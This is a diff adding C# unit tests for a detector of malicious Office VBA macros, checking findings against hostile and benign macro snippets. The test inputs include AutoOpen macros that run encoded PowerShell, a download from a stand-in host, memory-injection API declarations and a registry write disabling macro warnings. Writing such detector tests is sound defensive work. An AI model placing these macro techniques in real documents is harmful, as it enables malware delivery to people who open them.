@@ -1,0 +1,72 @@
+using ScanHost.Pipeline.Tests.Doubles;
+using ScanHost.TestKit;
+
+namespace ScanHost.Pipeline.Tests.Stages.Documents;
+
+public sealed class VbaStageTests
+{
+    private const string Auto = "Sub AutoOpen()\n";
+
+    [Theory]
+    [InlineData("vba.auto_exec_write", Auto + "Open \"x.txt\" For Output As #1\nEnd Sub")]
+    [InlineData("vba.auto_exec_write", "Private Sub Workbook_Open()\nSet o = CreateObject(\"Scripting.FileSystemObject\")\nEnd Sub")]
+    [InlineData("vba.auto_shell_enc", Auto + "Shell \"powershell -enc SQBFAFgAIAAoAE4AZQB3AC0A\"\nEnd Sub")]
+    [InlineData("vba.auto_shell_enc", Auto + "Set d = n.createElement(\"b\"): d.DataType = \"bin.base64\"\nCreateObject(\"WScript.Shell\").Run s\nEnd Sub")]
+    [InlineData("vba.download", "Declare Function URLDownloadToFileA Lib \"urlmon\" ()")]
+    [InlineData("vba.download", "Sub A()\nSet h = CreateObject(\"MSXML2.XMLHTTP\")\nSet s = CreateObject(\"ADODB.Stream\")\ns.SaveToFile f\nEnd Sub")]
+    [InlineData("vba.download", "Sub A()\nShell \"powershell (New-Object Net.WebClient).Downl\" & \"oadFile('http://host.invalid/a')\"\nEnd Sub")]
+    [InlineData("vba.wmi", "Sub A()\nGetObject(\"winmgmts:root\\cimv2:Win32_Process\").Create \"x\"\nEnd Sub")]
+    [InlineData("vba.inject", "Declare PtrSafe Function VirtualAlloc Lib \"kernel32\" ()\nDeclare Sub RtlMoveMemory Lib \"kernel32\" ()\nDeclare Function CreateThread Lib \"kernel32\" ()")]
+    [InlineData("vba.disable_sec", "Sub A()\nw.RegWrite \"HKCU\\Software\\Microsoft\\Office\\16.0\\Word\\Security\\VBAWarnings\", 1\nEnd Sub")]
+    [InlineData("vba.chr_chain", "x = Chr(1+71) & Chr(72) & Chr(73) & Chr(74) & Chr(75) & Chr(76) & Chr(77) & Chr(78) & Chr(79) & Chr(80) & Chr(81) & Chr(82) & Chr(83) & Chr(84) & Chr(85) & Chr(86) & Chr(87) & Chr(88) & Chr(89) & Chr(90)")]
+    public async Task What_a_macro_does_is_found(string finding, string source)
+    {
+        var outcome = await Scans.OfAsync(new VbaProjectBuilder().Module("Module1", source).Build());
+
+        outcome.Findings.Select(found => found.Id).Should().Contain(finding);
+    }
+
+    [Theory]
+    [InlineData("Sub Format()\nRange(\"A1\").Font.Bold = True\nEnd Sub")]
+    [InlineData("Sub AutoOpen()\nMsgBox \"Welcome\"\nEnd Sub")]
+    [InlineData("Sub Export()\nOpen \"x.csv\" For Output As #1\nPrint #1, Range(\"A1\").Value\nClose #1\nEnd Sub")]
+    [InlineData("Sub AutoOpen()\n' CreateObject(\"WScript.Shell\").Run \"powershell -enc SQBFAFgAIAAoAE4AZQB3AC0A\"\nEnd Sub")]
+    [InlineData("Sub Lines()\nx = \"a\" & Chr(13) & Chr(10) & \"b\" & Chr(34)\nEnd Sub")]
+    [InlineData("Sub Ask()\nSet h = CreateObject(\"MSXML2.XMLHTTP\")\nh.Open \"GET\", \"https://host.invalid/rates\"\nEnd Sub")]
+    [InlineData("Declare Sub RtlMoveMemory Lib \"kernel32\" ()\nSub Copy()\nEnd Sub")]
+    [InlineData("Sub Doc()\nActiveDocument.BuiltinDocumentProperties(\"Title\") = \"x\"\nEnd Sub")]
+    public async Task An_office_workers_macro_is_not(string source)
+    {
+        var outcome = await Scans.OfAsync(new VbaProjectBuilder().Module("Module1", source).Build());
+
+        outcome.Findings.Should().BeEmpty();
+    }
+
+    [Fact]
+    public async Task Modules_of_a_project_are_judged_together()
+    {
+        var file = new VbaProjectBuilder().Module("ThisDocument", "Sub Document_Open()\nRunIt\nEnd Sub").Module("Other", "Sub RunIt()\nCreateObject(\"WScript.Shell\").Run \"calc\"\nEnd Sub").Build();
+
+        var outcome = await Scans.OfAsync(file);
+
+        outcome.Findings.Select(found => found.Id).Should().Contain("vba.auto_exec_write");
+        outcome.Artifacts[0].Facts["vba"]["flags"]!.GetValue<string>().Should().Be("AX");
+    }
+
+    [Fact]
+    public async Task A_stomped_module_is_found()
+    {
+        var file = new VbaProjectBuilder().Module("M", "Sub A()\nEnd Sub", VbaProjectBuilder.CompiledLiterals("powershell", "http://host.invalid")).Build();
+
+        (await Scans.OfAsync(file)).Findings.Select(found => found.Id).Should().Equal("vba.stomp");
+    }
+
+    [Fact]
+    public async Task A_payload_in_a_form_that_a_macro_reads_is_found()
+    {
+        var file = new VbaProjectBuilder().Module("M", "Sub A()\nx = UserForm1.TextBox1.Text\nEnd Sub")
+            .AddTo(new TestKit.OleFileBuilder()).Stream("UserForm1/o", [.. new byte[20], .. "powershell -w hidden"u8]).Build();
+
+        (await Scans.OfAsync(file)).Findings.Select(found => found.Id).Should().Equal("vba.hidden_data");
+    }
+}
